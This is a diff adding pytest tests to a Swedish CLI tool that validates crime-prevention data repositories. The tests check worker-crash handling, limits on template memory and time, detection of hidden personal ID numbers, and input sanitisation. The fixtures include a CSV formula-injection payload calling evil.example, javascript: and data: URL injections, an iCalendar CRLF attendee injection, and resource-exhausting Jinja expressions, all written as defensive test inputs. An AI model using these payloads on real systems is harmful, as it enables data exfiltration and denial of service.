@@ -137,6 +137,39 @@ def test_validate_many_survives_a_worker_dying(tmp_path: Path, monkeypatch) -> N
         assert by_name[name].findings == [] and by_name[name].files > 0
 
 
+@pytest.mark.parametrize("jobs", [1, 2])
+def test_overview_survives_a_worker_dying(tmp_path: Path, monkeypatch, jobs: int) -> None:
+    # Before: batch.map_roots (bfa overview) lost every repository's row when one worker
+    # died, and with -j1 one repository's bug ended the whole overview.
+    if sys.platform == "win32":
+        pytest.skip("fork is needed to plant the dying worker")
+    import brottsforeb.overview as ov_mod
+
+    for name in ("a", "b", "dor", "d"):
+        write_repo(tmp_path / name, dict(MINIMAL))
+    real = ov_mod._row
+
+    def dies_on_dor(args):  # type: ignore[no-untyped-def]
+        if args[0].name == "dor":
+            if jobs == 1:
+                raise RuntimeError("bug")
+            os._exit(139)
+        return real(args)
+
+    monkeypatch.setattr(ov_mod, "_row", dies_on_dor)
+    ov = ov_mod.overview([tmp_path], dt.date(2026, 6, 1), jobs=jobs)
+    by_label = {r.label: r for r in ov.rows}
+    assert set(by_label) == {"a", "b", "dor", "d"}
+    assert by_label["dor"].failed and by_label["dor"].action_plan is None
+    for name in ("a", "b", "d"):
+        assert by_label[name].failed is None and by_label[name].name != name
+    text = ov_mod.to_markdown(ov)
+    assert "Kontrollen av förrådet avbröts" in text
+    failed = {m["label"]: m["failed"] for m in json.loads(ov_mod.to_json(ov))["municipalities"]}
+    assert failed["a"] is None and failed["dor"]
+    assert ov_mod.to_csv(ov).splitlines()[0].endswith(",avbruten")
+
+
 def test_every_exception_class_is_the_swedish_internal_error(monkeypatch, capsys) -> None:
     # Before: a BaseException that is not an Exception (pyo3's PanicException) ended in a
     # full traceback.
@@ -195,6 +228,76 @@ def test_repository_templates_run_within_limits(make_repo, cli, name: str) -> No
     result = cli("render", "organisation", root)
     assert result.exit_code == 2
     assert "Mallen avbröts" in result.output
+
+
+def peak(*args: str | Path, cwd: Path) -> tuple[int, str, int]:
+    """Run bfa; (exit code, stderr, peak memory in MB of it and every process it started)."""
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "brottsforeb", *map(str, args)],
+        cwd=cwd,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+        text=True,
+        env={**os.environ, "COLUMNS": "200", "NO_COLOR": "1"},
+    )
+    err = proc.stderr.read() if proc.stderr else ""
+    _pid, status, usage = os.wait4(proc.pid, 0)
+    proc.returncode = os.waitstatus_to_exitcode(status)
+    scale = 1024 * 1024 if sys.platform == "darwin" else 1024  # bytes on macOS, KiB on Linux
+    return proc.returncode, err, usage.ru_maxrss // scale
+
+
+#: Single operations in C that no loop counter or clock check sees until they end.
+C_LEVEL_MEMORY = {
+    "printf width": '{{ "%0999999999d"|format(1) }}',
+    "format-spec width": '{{ "{:>999999999}".format(1) }}',
+    "join of a repeated big value": '{{ (["x" * 4000000] * 200)|join|length }}',
+    "indent of many lines": '{{ ("x\n" * 2000000)|indent(4000)|length }}',
+    "replace that multiplies": '{{ ("x" * 4000000)|replace("x", "x" * 4000000)|length }}',
+}
+
+
+@pytest.mark.skipif(not hasattr(os, "wait4"), reason="peak memory is read with wait4")
+@pytest.mark.parametrize("name", list(C_LEVEL_MEMORY))
+def test_one_c_level_operation_in_a_template_is_bounded_in_memory(make_repo, name) -> None:
+    # Before: "%0999999999d"|format peaked at 993 MB before the size guard saw the result.
+    root = make_repo({"templates/organisation.md.j2": C_LEVEL_MEMORY[name]})
+    code, err, mb = peak("render", "organisation", cwd=root)
+    assert code == 2 and "Mallen" in err and "Traceback" not in err, err
+    assert mb < 400, f"{name}: {mb} MB"
+
+
+C_LEVEL_TIME = {
+    "wordwrap of one long word": '{{ ("x" * 4000000)|wordwrap(1)|length }}',
+    "lipsum": "{{ lipsum(999999)|length }}",
+}
+
+
+@pytest.mark.skipif(not hasattr(os, "fork"), reason="the hard time limit needs fork")
+@pytest.mark.parametrize("name", list(C_LEVEL_TIME))
+def test_one_c_level_operation_in_a_template_is_bounded_in_time(
+    make_repo, cli, monkeypatch, name
+) -> None:
+    # Before: wordwrap(1) over a 4 MB word ran for minutes inside one filter call.
+    import brottsforeb.render._env as env_mod
+
+    monkeypatch.setattr(env_mod, "MAX_SECONDS", 1.0)
+    root = make_repo({"templates/organisation.md.j2": C_LEVEL_TIME[name]})
+    result = cli("render", "organisation", root)
+    assert result.exit_code == 2
+    assert "Mallen avbröts: den tog mer än 1 sekunder" in result.output
+
+
+@pytest.mark.parametrize(
+    "expression",
+    ['{{ "x".split("") }}', '{{ "x"|filesizeformat }}', '{{ "x"|xmlattr }}', "{{ 1 / 0 }}"],
+)
+def test_a_template_error_at_run_time_is_the_templates_fault(make_repo, cli, expression) -> None:
+    # Before (in a child): "internt fel (ValueError)"; the template is broken, not bfa.
+    root = make_repo({"templates/organisation.md.j2": expression})
+    result = cli("render", "organisation", root)
+    assert result.exit_code == 2
+    assert "Mallen för 'organisation' är trasig" in result.output
 
 
 def test_personnummer_in_a_repository_template_is_refused(make_repo, cli) -> None:
@@ -463,6 +566,177 @@ def test_personnummer_in_a_file_name(make_repo) -> None:
     assert not any(PNR in (f.file + f.message) for f in findings)
 
 
+#: How Word, Excel, a PDF copy or a YAML escape writes 900101-0009 (the test data's own).
+PNR_SHAPES = {
+    "period": "900101.0009",
+    "slash": "900101/0009",
+    "underscore": "900101_0009",
+    "spaced dash": "900101 - 0009",
+    "double dash": "900101--0009",
+    "thin space": "900101\u20090009",
+    "narrow no-break space": "900101\u202f0009",
+    "figure space": "900101\u20070009",
+    "full-width hyphen": "900101\uff0d0009",
+    "dash and zero-width space": "900101-\u200b0009",
+    "zero-width joiner inside the date": "9001\u200d01-0009",
+    "soft hyphen": "900101\u00ad0009",
+    "full-width digits": "９００１０１－０００９",
+    "tab": "900101\t0009",
+}
+
+
+@pytest.mark.parametrize("name", list(PNR_SHAPES))
+def test_personnummer_with_every_separator_word_and_excel_write(make_repo, name) -> None:
+    # Before: each of these passed validate and reached render --public in full.
+    written = PNR_SHAPES[name]
+    root = make_repo({"funktioner/samordnare.yaml": f"titel: Samordnare\nnivå: x {written}\n"})
+    findings = validate(load_repo(root))
+    assert [f.rule for f in findings if f.rule == "PERSONNUMMER"] == ["PERSONNUMMER"], name
+    from brottsforeb._pii import mask
+
+    assert "0009" not in mask(f"Kontakt {written}.")
+
+
+YAML_HIDDEN_PNR = {
+    "hex escape": '"Kontakt 900101\\x2D0009"',
+    "unicode escape": '"Kontakt 900101\\u002d0009"',
+    "tab escape": '"Kontakt 900101\\t0009"',
+    "line continuation": '"Kontakt 19900101\\\n    0009"',
+    "folded plain scalar": "Kontakt 19900101\n    0009",
+    "folded block scalar": ">\n    Kontakt 19900101\n    0009",
+}
+
+
+@pytest.mark.parametrize("name", list(YAML_HIDDEN_PNR))
+def test_personnummer_hidden_by_yaml_escapes_is_found_in_the_loaded_value(
+    make_repo, cli, name
+) -> None:
+    # Before: the raw-text scan missed these; render --public printed the number in full.
+    root = make_repo(
+        {"funktioner/samordnare.yaml": f"titel: Samordnare\nnivå: {YAML_HIDDEN_PNR[name]}\n"}
+    )
+    found = [f for f in validate(load_repo(root)) if f.rule == "PERSONNUMMER"]
+    assert len(found) == 1 and found[0].file == "funktioner/samordnare.yaml"
+    assert found[0].line == 2
+    result = cli("validate", "--format", "json", root)
+    assert result.exit_code == 1 and "0009" not in result.output
+
+
+def test_personnummer_in_a_key_hidden_by_an_escape(make_repo) -> None:
+    root = make_repo(
+        {"funktioner/samordnare.yaml": 'titel: Samordnare\n"x\\x2019900101-0009": 1\n'}
+    )
+    assert any(f.rule == "PERSONNUMMER" for f in validate(load_repo(root)))
+
+
+def test_set_refuses_a_value_that_loads_to_a_personnummer(make_repo, cli) -> None:
+    # Before: `bfa set bfa namn '"Anna 800101\x2D1231"'` wrote it and exited 0.
+    root = make_repo()
+    before = (root / "bfa.yaml").read_bytes()
+    result = cli("set", "bfa", "namn", '"Anna 900101\\x2D0009"', "-C", root)
+    assert result.exit_code == 1 and "PERSONNUMMER" in result.output
+    assert "0009" not in result.output
+    assert (root / "bfa.yaml").read_bytes() == before
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["new", "aktor", "Anna 900101-0009"],
+        ["new", "aktor", "Anna 900101.0009", "--id", "anna"],
+        ["new", "aktor", "Anna", "--id", "x-900101-0009"],
+        ["new", "organ", "Grupp 19900101 0009"],
+    ],
+)
+def test_new_refuses_a_personnummer_in_the_name_or_id(make_repo, args) -> None:
+    # Before: `bfa new aktor "Anna 800101-1231"` created aktorer/anna-800101-1231.yaml.
+    root = make_repo()
+    files = sorted(p for p in root.rglob("*") if p.is_file())
+    proc = bfa(*args, cwd=root)
+    assert proc.returncode == 2 and "personnummer" in proc.stderr
+    assert "0009" not in proc.stderr + proc.stdout
+    assert sorted(p for p in root.rglob("*") if p.is_file()) == files
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["log", PNR],
+        ["calendar", "--meeting", PNR],
+        ["render", "atgardsplan", "--id", PNR],
+        ["set", PNR, "namn", "x"],
+        ["check", "--today", PNR],
+        ["validate", PNR],
+        ["render", f"x{PNR}"],
+        ["new", "mote", PNR, "--date", "2026-01-01"],
+        ["overview", "--today", PNR],
+    ],
+)
+def test_no_error_message_echoes_a_personnummer_from_the_command_line(history, args) -> None:
+    # Before: every `bfa: fel:` line printed the argument in full (into CI logs).
+    root, _repo = history
+    proc = bfa(*args, cwd=root)
+    no_crash(proc)
+    assert proc.returncode != 0
+    assert "0009" not in proc.stderr + proc.stdout, proc.stderr
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
+def test_overview_csv_cells_never_start_a_formula(tmp_path: Path, start: str) -> None:
+    # Before: a name '=HYPERLINK("http://evil.example/?"&A1,"Klicka")' reached the CSV as is.
+    import csv
+    import io
+
+    from brottsforeb.overview import overview, to_csv
+
+    payload = f'{start}HYPERLINK("http://evil.example/?"&A1;"Klicka")'
+    files = dict(MINIMAL)
+    files["bfa.yaml"] = files["bfa.yaml"].replace(
+        "namn: Testby kommun", "namn: " + json.dumps(payload)
+    )
+    write_repo(tmp_path / "a", files)
+    write_repo(tmp_path / "b", dict(MINIMAL))
+    rows = list(csv.reader(io.StringIO(to_csv(overview([tmp_path], dt.date(2026, 6, 1))))))
+    names = [row[1] for row in rows[1:]]
+    assert "Testby kommun" in names
+    for row in rows[1:]:
+        for value in row:
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), row
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("länk", "javascript:alert(document.cookie)"),
+        ("länk", "data:text/html,<script>x</script>"),
+        ("länk", "teams.microsoft.com/x"),
+        ("plats", '"Rum 1\\r\\nATTENDEE:mailto:evil@example.com"'),
+        ("tid", '"13:00\\nX"'),
+    ],
+)
+def test_meeting_links_and_one_line_fields(make_repo, key: str, value: str) -> None:
+    # Before: länk: javascript:… became the calendar event's URL; plats took CR/LF.
+    root = make_repo()
+    path = root / "moten" / "2025" / "2025-03-01-styrgrupp.yaml"
+    if not path.exists():
+        write_repo(
+            root, {"moten/2025/2025-03-01-styrgrupp.yaml": "organ: styrgrupp\ndatum: 2025-03-01\n"}
+        )
+    path.write_text(path.read_text(encoding="utf-8") + f"{key}: {value}\n", encoding="utf-8")
+    found = [f for f in validate(load_repo(root)) if f.file.endswith("styrgrupp.yaml")]
+    assert any(f.rule == "SCHEMA" for f in found), found
+
+
+def test_good_links_are_accepted(make_repo) -> None:
+    root = make_repo(
+        {
+            "moten/2025/2025-03-01-styrgrupp.yaml": "organ: styrgrupp\ndatum: 2025-03-01\n"
+            "länk: https://teams.microsoft.com/l/meetup-join/x\nplats: Rum 1\n"
+        }
+    )
+    assert not [f for f in validate(load_repo(root)) if f.rule == "SCHEMA"]
+
+
 # -- lost data: bfa set ---------------------------------------------------------------------
 
 
@@ -659,14 +933,15 @@ def test_nothing_in_a_data_folder_is_ignored_silently(make_repo) -> None:
     assert ("organ/slinga.yaml", "FIL-LANK") in found
 
 
-@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root reads mode 000")
-def test_unreadable_folder_is_a_finding(make_repo) -> None:
-    root = make_repo()
+@pytest.mark.skipif(not hasattr(os, "geteuid"), reason="mode 000 is POSIX")
+def test_unreadable_folder_is_a_finding(unprivileged) -> None:
+    # Runs as an ordinary user even when the suite runs as root (then as nobody).
+    folder, validate_as_user = unprivileged
+    root = write_repo(folder / "repo", dict(MINIMAL))
+    for path in [root, *root.rglob("*")]:
+        path.chmod(0o755 if path.is_dir() else 0o644)
     (root / "organ").chmod(0)
-    try:
-        found = {(f.file, f.rule) for f in validate(load_repo(root))}
-    finally:
-        (root / "organ").chmod(0o755)
+    found = {(f.file, f.rule) for f in validate_as_user(root)}
     assert ("organ/", "FIL-LASFEL") in found
 
 
